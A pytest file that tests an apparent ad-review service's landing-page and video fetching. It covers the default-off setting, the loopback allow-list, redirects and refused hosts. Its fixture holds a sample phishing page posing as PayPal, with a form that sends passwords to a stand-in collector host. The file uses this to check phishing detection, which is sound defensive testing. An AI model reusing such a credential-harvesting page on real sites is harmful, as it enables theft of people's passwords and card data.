"""Fetching url-only landing pages: off by default; when on, only allow-listed loopback is reachable."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.conftest import free_port
from tests.media import landscape_photo, rifle_drawing, video_file

PAGE = (b"<html><head><title>PayPal - Confirm your account</title></head><body>"
        b"<p>Your account is suspended. Enter your password and card number to restore access.</p>"
        b"<form action='http://collector.example.ru/p'><input type='password' name='pw'></form></body></html>")


@pytest.fixture(scope="module")
def page_server(tmp_path_factory):
    hits: list[str] = []
    video = video_file(tmp_path_factory.mktemp("v") / "ad.mp4", [landscape_photo(), rifle_drawing()], 2.0)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            if self.path == "/ad.mp4":
                self.send_response(200)
                self.send_header("Content-Type", "video/mp4")
                self.send_header("Content-Length", str(len(video)))
                self.end_headers()
                self.wfile.write(video)
                return
            if self.path == "/moved":
                self.send_response(302)
                self.send_header("Location", "/login")
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(PAGE)))
            self.end_headers()
            self.wfile.write(PAGE)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()


def test_fetching_is_off_by_default(client, page_server):
    port, hits = page_server
    before = len(hits)
    resp = client.post("/v1/review", json={"request_id": "fetch-off", "landing_page": {"url": f"http://127.0.0.1:{port}/login"}})
    assert resp.status_code == 200
    assert len(hits) == before
    assert not any(e["source"].startswith("landing_page.text") for e in resp.json()["evidence"])


def test_video_url_needs_fetching_enabled(client):
    resp = client.post("/v1/review", json={"request_id": "vurl-off",
                                            "creative": {"video": {"url": "http://127.0.0.1:9/ad.mp4"}}})
    assert resp.status_code == 422 and "fetching is disabled" in resp.json()["detail"]
    both = client.post("/v1/review", json={"request_id": "vurl-both",
                                            "creative": {"video": {"url": "http://x/a.mp4", "data": "AAAA"}}})
    assert both.status_code == 422 and "exactly one" in both.json()["detail"]


def test_fetching_allow_listed_loopback_page(service, page_server, tmp_path):
    from commands.launcher import run_extra_ingress

    port, hits = page_server
    run_extra_ingress(
        "adrisk-fetch-test", "/fetching",
        overrides={"fetch": {"enabled": True, "allow_hosts": [f"127.0.0.1:{port}"], "timeout_s": 5},
                   "store": {"path": str(tmp_path / "fetch.sqlite3")}},
        ingress_options={"ray_actor_options": {"num_cpus": 0.05}},
    )
    with httpx.Client(base_url=service.url, timeout=60) as c:
        fetched = c.post("/fetching/v1/review",
                         json={"request_id": "fetch-1", "landing_page": {"url": f"http://127.0.0.1:{port}/moved"}})
        assert fetched.status_code == 200, fetched.text
        body = fetched.json()
        assert "/moved" in hits and "/login" in hits
        sources = {e["source"] for e in body["evidence"]}
        assert "landing_page.title" in sources or "landing_page.text" in sources
        assert any(e["source"] == "landing_page.fetch" and "redirect" in e["detail"] for e in body["evidence"])
        assert body["scores"]["phishing"] > 0.5

        video = c.post("/fetching/v1/review",
                       json={"request_id": "fetch-video", "creative": {"video": {"url": f"http://127.0.0.1:{port}/ad.mp4"}}})
        assert video.status_code == 200, video.text
        assert video.json()["scores"]["weapons"] > 0.4
        assert any(e["source"].startswith("video@") for e in video.json()["evidence"])
        not_video = c.post("/fetching/v1/review",
                           json={"request_id": "fetch-video-2", "creative": {"video": {"url": f"http://127.0.0.1:{port}/login"}}})
        assert not_video.status_code == 422 and "not a video" in not_video.json()["detail"]

        # Not allow-listed: another loopback port is refused before any connection; the review still answers.
        refused = c.post("/fetching/v1/review",
                         json={"request_id": "fetch-2", "landing_page": {"url": f"http://127.0.0.1:{free_port()}/"}})
        assert refused.status_code == 200
        fetch_evidence = [e for e in refused.json()["evidence"] if e["source"] == "landing_page.fetch"]
        assert fetch_evidence and "not fetched" in fetch_evidence[0]["detail"]
